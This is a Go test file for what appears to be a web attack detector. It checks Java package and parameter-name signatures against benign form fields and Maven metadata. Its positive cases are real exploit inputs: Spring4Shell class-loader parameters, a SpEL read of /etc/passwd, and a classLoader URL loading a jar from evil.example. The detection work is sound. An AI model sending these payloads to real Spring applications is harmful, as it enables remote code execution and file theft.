package signature_test

import "testing"

// A package of the CRS's Java list named alone is metadata (a Maven
// groupId, an import, an OSGi export), where a class named alone is code.
func TestJavaPackageAlone(t *testing.T) {
	checkFamily(t, "code", []familyCase{
		{"q", "java.lang.Runtime", 0.99},
		{"q", "javax.script.ScriptEngineManager", 0.99},
		{"q", "T(org.apache.commons.io.FileUtils).readFileToString(new java.io.File('/etc/passwd'))", 0.99},
	}, []familyCase{
		{"q", "org.apache.commons", 0},
		{"q", "javax.xml.parsers", 0},
		{"body:application/xml", "<project><groupId>org.apache.commons</groupId><artifactId>commons-io</artifactId></project>", 0},
		{"q", "java.nio.file", 0},
	}, 0.9)
}

// Spring binds a parameter's name to a property path: a name that walks
// to the class loader (Spring4Shell, CVE-2022-22965, and the older
// class.classLoader of CVE-2010-1622) or names a gadget is an attack;
// the dotted and bracketed names of forms and APIs are not.
func TestJavaParameterNames(t *testing.T) {
	form := "body:application/x-www-form-urlencoded"
	checkFamily(t, "code", []familyCase{
		{form, "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di", 0.99},
		{form, "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&a=1", 0.99},
		{form, "class.classLoader.URLs[0]=jar:http://evil.example/x.jar!/", 0.99},
		{form, "class[module][classLoader][resources]=x", 0.99},
		{form, "java.lang.Runtime=test", 0.99},
		{"header:Cookie", "java.lang.ProcessBuilder=test", 0.99},
	}, []familyCase{
		{form, "user.address.city=Paris&user.roles[0]=admin", 0},
		{form, "order.items[2].qty=3", 0},
		{form, "class.name=Algebra&class.room=B12", 0},
		{"q", "filter[class]=economy", 0},
	}, 0.9)
}
